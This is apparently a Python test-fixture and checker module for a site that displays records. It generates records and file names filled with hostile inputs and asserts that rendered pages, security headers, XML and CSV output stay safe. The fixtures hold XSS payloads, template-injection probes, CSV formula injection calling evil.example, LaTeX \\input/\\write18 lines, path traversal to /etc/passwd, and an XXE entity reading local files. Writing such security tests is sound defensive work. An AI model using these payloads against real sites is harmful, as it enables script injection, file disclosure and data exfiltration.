"""Records written to break a site that shows them, and what no answer may hold whatever the records say."""

from __future__ import annotations

import csv
import http.client
import io
import json
import re
from pathlib import Path
from urllib.parse import urlsplit

from lxml import etree, html

RAN = "__ran"  # what every script below would call, were it to run
SUM = str(1337 * 1337)  # what stands in the answer where a template works a record out

PAYLOADS = (
    f"<script>{RAN}()</script>",
    f'"><img src=x onerror={RAN}()>',
    f"'><svg onload={RAN}()><a xlink:href='javascript:{RAN}()'>x</a></svg>",
    f"</title></textarea></script><script>{RAN}()</script>",
    f"&lt;script&gt;{RAN}()&lt;/script&gt; &#60;img src=x onerror={RAN}()&#62;",
    "{{1337*1337}} {% raw %} {{config}} ${1337*1337} #{1337*1337} <%= 1337*1337 %>",
    "]]><x xmlns='y'/><!--<![CDATA[&bomb;",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1337*1337", "-1337*1337", "@SUM(1337*1337)", "\t=1337*1337",
    "\r=1337*1337", "＝1337*1337", "x;=1337*1337", "x,=1337*1337", 'x;"=1337*1337;', 'x,"=1337*1337,',
    "x}}, url = {http://evil.example} \\input{/etc/passwd} \\write18{id} @misc{y, $%#_^~",
    "x\r\nER  - \r\nTY  - JOUR\r\nUR  - http://evil.example/",
    "\u202efdp.exe\u202c \u2066x\u2069 \u200e\u200f\u200bzero\ufeff\u2028line\u2029",
    "nul\x00 bell\x07 escape\x1b[31m back\x08 c1\x9b",
    "../../../../etc/passwd", "//evil.example/x", "http://evil.example/", "..\\..\\windows\\win.ini",
    f"javascript:{RAN}()", f"data:text/html,<script>{RAN}()</script>",
    "x\nSet-Cookie: a=b\r\n\r\n<html>", "#\"?&=%00%0d%0a%2e%2e%2f", "A" * 3000, "<" * 500, "‮", "\ud800 lone \udfff",
)
ADDRESSES = (
    f"javascript:{RAN}()", f"JaVa\tScRiPt:{RAN}()", f"\x01javascript:{RAN}()", "vbscript:x", "file:///etc/passwd",
    f"data:text/html,<script>{RAN}()</script>", "//evil.example/", "http://evil.example\n/x", "http://", "https://[::1",
    'https://example.org/"onmouseover="x', "https://example.org/{}\\input{x}", f"https://user:{RAN}@example.org/",
    "=http://example.org", "https://example.org/\u202egpj.x", "https://example.org/a?b=1&c=%3Cscript%3E",
)
DECEIVING = re.compile("[\u202a-\u202e\u2066-\u2069\u200b\ufeff]")
FIELDS = ("title", "kind", "publisher", "language", "place", "event", "speaker", "speaker_role", "participants",
          "topics", "breadcrumb", "note", "id", "date")


def write_records(folder: Path) -> None:
    """A folder of records whose every field, and every file's name, is hostile."""
    folder.mkdir(parents=True)
    rows = []
    for n, bad in enumerate(PAYLOADS):
        row: dict[str, object] = dict.fromkeys(FIELDS, bad)
        row |= {"source_url": ADDRESSES[n % len(ADDRESSES)], "date": f"20{10 + n % 10}-03-0{1 + n % 9}",
                "topics": [bad, "peace"], "participants": [bad, f"Mr. {bad}, Minister of {bad}"], "extra": {bad: bad},
                "text": f"The peace of number{n}.\n\n1. {bad}\n\nMr. Abe said: {bad} about peace. {bad}\n\n"
                        f"REPORTER: {bad}?\n\n2. Peace {bad}\n\n“{bad}” said Mr. Putin of peace."}
        if n % 3 == 0:
            row["title"] = ""
        if n % 2:
            row["id"] = f"plain-{n}"
        rows.append(row)
    (folder / "rows.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), "utf-8")
    bad = f"{RAN}<svg onload={RAN}()>"
    (folder / f"<img src=x onerror={RAN}()>.txt").write_text(f"{bad}\n\nMay 3, 2019\n\nA word on peace.\n", "utf-8")
    (folder / "{{1337*1337}}.md").write_text(f"---\ntitle: '{bad}'\n---\n# {bad}\n\nPeace [x](javascript:{RAN}()).\n")
    (folder / "a%2e%2e%2fb#c?d&e.md").write_text("# Peace\n\nPeace.\n")
    (folder / "=1+1\n\u202e.txt").write_text("Peace\n\nMay 4, 2019\n\nPeace again.\n")
    (folder / "page.html").write_text(
        f'<html lang="&quot;><script>{RAN}()</script>"><title>&lt;script&gt;{RAN}()&lt;/script&gt;</title>'
        f'<link rel=canonical href="javascript:{RAN}()"><main><h1 onclick="{RAN}()">Peace &lt;svg onload={RAN}()&gt;'
        "</h1>"
        f"<script>{RAN}()</script><p>Peace <a href='javascript:{RAN}()'>x</a> &lt;img src=x onerror={RAN}()&gt;</p>"
        f"<svg><script>{RAN}()</script></svg><style>*{{display:none}}</style></main></html>")
    (folder / "broken.xml").write_text("<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>")


def check_headers(headers: http.client.HTTPMessage) -> None:
    """What every answer says to the browser, errors included."""
    policy = {part.split()[0]: part.split()[1:] for part in headers["Content-Security-Policy"].split(";")}
    assert policy["default-src"] == ["'none'"]
    for name, sources in policy.items():
        if name.endswith("-src") or name in ("base-uri", "form-action", "frame-ancestors"):
            assert set(sources) <= {"'none'", "'self'"}, name
    assert {"script-src", "style-src", "base-uri", "form-action", "frame-ancestors"} <= policy.keys()
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["X-Frame-Options"] == "DENY"
    assert headers["Referrer-Policy"]
    assert headers["Permissions-Policy"]
    assert headers["Cross-Origin-Opener-Policy"] == "same-origin"
    assert headers.get_all("Set-Cookie") is None
    assert headers.get_all("Content-Type") is None or len(headers.get_all("Content-Type", [])) == 1
    assert "Server" not in headers
    assert "Access-Control-Allow-Origin" not in headers


def check_page(body: str) -> None:
    """No script, style or frame but the site's own; no address but of the web; nothing worked out; no hidden turns."""
    found = html.document_fromstring(body)
    assert SUM not in body
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", body)
    assert not DECEIVING.search(found.text_content())
    for each in found.iter(etree.Element):
        tag, attributes = str(each.tag), {str(k).lower(): str(v) for k, v in each.attrib.items()}
        shown = [value for name, value in attributes.items()
                 if name != "value" or attributes.get("type") not in ("hidden", "checkbox")]  # a facet's value, exact
        assert not DECEIVING.search(" ".join(shown)), attributes
        assert not [name for name in attributes if name.startswith("on") or name in ("style", "srcdoc", "http-equiv")]
        assert tag not in ("iframe", "object", "embed", "base", "style", "img", "foreignobject", "template")
        if tag == "script":
            assert attributes.get("src", "").startswith("/static/")
            assert not (each.text or "").strip()
        if tag == "link":
            assert urlsplit(attributes["href"]).scheme in ("", "http", "https")
        if tag in ("a", "form", "area"):
            check_address(attributes.get("href") or attributes.get("action") or attributes.get("xlink:href") or "")


def check_address(address: str) -> None:
    """A link leads into the site by a path of its own, or to a source by http or https; never by `//host`."""
    assert not re.search(r"[\s\x00-\x1f\\]", address), ascii(address)
    parts = urlsplit(address)
    assert parts.scheme in ("", "http", "https"), address
    assert not (parts.netloc and not parts.scheme), address


def check_xml(body: bytes) -> None:
    """Well-formed, without a document type, links of the web alone."""
    found = etree.fromstring(body, etree.XMLParser(resolve_entities=False, no_network=True))
    assert found.getroottree().docinfo.doctype == ""
    for each in found.iter(etree.Element):
        if "href" in each.attrib:
            check_address(str(each.get("href")))


def check_table(body: str) -> None:
    """No cell that a spreadsheet runs, whichever sign it takes for the end of a cell, and whether it heeds quotes."""
    header, *rows = csv.reader(io.StringIO(body.removeprefix("\ufeff")), strict=True,
                               delimiter=";" if ";" in body.splitlines()[0] else ",")
    assert all(len(row) == len(header) for row in rows)
    for delimiter in ",;\t":
        for row in csv.reader(io.StringIO(body.removeprefix("\ufeff"), newline=""), delimiter=delimiter):
            for cell in row:
                plain = cell.lstrip(" \u00a0\ufeff\u200b")
                number = re.fullmatch(r"-?\d+([.,]\d+)?", plain)
                assert number or plain[:1] not in tuple("=+-@\t\r\n＝＋－＠"), ascii(cell)
